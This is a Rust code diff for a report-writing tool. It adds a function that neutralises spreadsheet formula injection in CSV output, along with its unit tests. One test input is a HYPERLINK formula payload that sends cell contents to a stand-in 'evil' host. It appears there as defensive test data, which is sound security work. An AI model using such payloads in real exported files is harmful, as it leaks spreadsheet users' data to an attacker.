@@ -393,7 +393,7 @@ impl<W: Write> Sink<W> {
     pub fn write(&mut self, rec: &Record) -> io::Result<()> {
         match self {
             Self::Csv(w) => {
-                w.write_record(rec.csv_row())?;
+                w.write_record(rec.csv_row().iter().map(|c| csv_safe(c).into_owned()))?;
                 w.flush()
             }
             Self::Json { out, first } => {
@@ -428,7 +428,52 @@ impl<W: Write> Sink<W> {
     }
 }
 
+/// A CSV cell that a spreadsheet will not run as a formula. Server-controlled text (a page
+/// title, a target, a category) starting with `=`, `+`, `-`, `@`, a tab or a carriage return
+/// (after any leading spaces) gets a leading `'`, the convention spreadsheets read as "text";
+/// numbers (`-1.5`) stay as they are. JSON output is never altered (docs/report-schema.md).
+pub fn csv_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    let risky = cell
+        .trim_start_matches(' ')
+        .starts_with(['=', '+', '-', '@', '\t', '\r'])
+        || cell.starts_with(['\t', '\r']);
+    if risky && cell.trim().parse::<f64>().is_err() {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
+}
+
 /// Diagnostics for the user (bad input lines, interrupts) go to stderr, never to the report.
 pub fn warn(msg: impl std::fmt::Display) {
     let _ = writeln!(io::stderr().lock(), "blockprobe: {msg}");
+}
+
+#[cfg(test)]
+mod tests {
+    use super::csv_safe;
+
+    /// Issue 11, item 13: CSV formula injection.
+    #[test]
+    fn issue_11_csv_cells_never_start_a_formula() {
+        for (cell, want) in [
+            (
+                "=HYPERLINK(\"http://evil\"&A1,\"x\")",
+                "'=HYPERLINK(\"http://evil\"&A1,\"x\")",
+            ),
+            ("+1+1", "'+1+1"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1+1", "'\t=1+1"),
+            ("  =1", "'  =1"),
+            ("\r=1", "'\r=1"),
+            ("-1.5", "-1.5"),
+            ("+7", "+7"),
+            ("Роскомнадзор", "Роскомнадзор"),
+            ("a=b", "a=b"),
+            ("", ""),
+        ] {
+            assert_eq!(csv_safe(cell), want, "{cell:?}");
+        }
+    }
 }
